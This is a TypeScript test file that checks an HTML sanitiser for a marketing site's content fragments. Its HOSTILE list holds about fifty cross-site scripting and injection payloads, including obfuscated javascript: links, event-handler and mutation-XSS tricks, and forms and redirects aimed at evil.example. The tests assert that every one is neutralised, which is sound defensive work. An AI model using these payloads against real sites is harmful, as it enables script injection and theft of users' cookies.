// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { cleanFragment } from '@/lib/backends/content/fragments/clean-fragment'
import { fragmentHref } from '@/lib/backends/content/fragments/fragment-href'

const SITE = 'https://marketing.example.com'
const clean = (html: string) => cleanFragment(html, fragmentHref('en-us', SITE))

/** Everything a browser makes of the markup. */
const elementsOf = (html: string) => [
  ...new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html').body.querySelectorAll('*'),
]

const HARMLESS = ['a', 'b', 'br', 'div', 'em', 'h2', 'h3', 'h4', 'i', 'li', 'ol', 'p', 'span', 'strong', 'ul']
const WITH_ATTRIBUTES = ['href', 'rel', 'lang']

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img srcset="javascript:alert(1) 1x">',
  '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<a href="/x" onfocus=alert(1) autofocus>x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="http://plain.example/">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="/x" target="_blank" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form action="https://evil.example"><input name=cookies><button>Go</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
  '<p id="main" name="cookies" class="sr-only" is="x-y" slot="s">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p>a\u0000b<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<a href="/x"><a href="javascript:alert(1)">y',
  '<div lang="x" onclick=alert(1)">x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<custom-element onclick=alert(1)>x</custom-element>',
]

describe('a fragment of the marketing site', () => {
  it.each(HOSTILE)('is inert once cleaned: %j', html => {
    const elements = elementsOf(clean(`<ul><li>${html}</li></ul>`))
    expect(elements.map(({ localName }) => localName).filter(name => !HARMLESS.includes(name))).toEqual([])
    const attributes = elements.flatMap(element => [...element.attributes])
    expect(attributes.map(({ name }) => name).filter(name => !WITH_ATTRIBUTES.includes(name))).toEqual([])
    for (const { name, value } of attributes)
      if (name === 'href') expect(value).toMatch(/^(?:https:\/\/marketing\.example\.com\/|\/(?![/\\]))/)
  })

  it('stays the same when cleaned again', () => {
    for (const html of HOSTILE) {
      const once = clean(html)
      expect(elementsOf(clean(once)).length).toBe(elementsOf(once).length)
    }
  })

  it('keeps its texts, lists, headings and languages', () => {
    expect(
      clean('<nav class="x"><h1>Help</h1><ul><li lang="fr">Été &amp; <b>hiver</b></li></ul></nav>'),
    ).toBe('<div><h2>Help</h2><ul><li lang="fr">Été &amp; <b>hiver</b></li></ul></div>')
  })

  it.each([
    ['store:categories/a1', '/store/usassessments/en/categories/a1'],
    ['page:login', '/en-us/login'],
    ['site:legal/privacy', `${SITE}/en-us/legal/privacy`],
    ['catalogs.html', `${SITE}/en-us/catalogs.html`],
    ['/content/dam/catalog.pdf', `${SITE}/content/dam/catalog.pdf`],
    ['?page=2', `${SITE}/en-us/?page=2`],
    ['https://elsewhere.example/a', 'https://elsewhere.example/a'],
    ['mailto:help@example.com', 'mailto:help@example.com'],
    ['tel:+1-800-555-0100', 'tel:+1-800-555-0100'],
  ])('has the link %s lead to %s', (href, address) => {
    expect(elementsOf(clean(`<a href="${href}">x</a>`))[0]?.getAttribute('href')).toBe(address)
  })

  it('keeps the words of a link that may lead nowhere', () => {
    expect(clean('<a href="javascript:alert(1)">Catalogs</a>')).toBe('<span>Catalogs</span>')
  })

  it('tells other sites nothing of the window that opened them', () => {
    expect(clean('<a href="https://elsewhere.example/">x</a>')).toContain('rel="noopener"')
  })

  it('of absurd depth comes back shallow', () => {
    const depthOf = (element: Element): number =>
      Math.max(0, ...[...element.children].map(child => depthOf(child))) + 1
    const [outermost] = elementsOf(clean(`${'<div>'.repeat(5_000)}x`))
    expect(outermost === undefined ? 0 : depthOf(outermost)).toBeLessThan(40)
  })
})
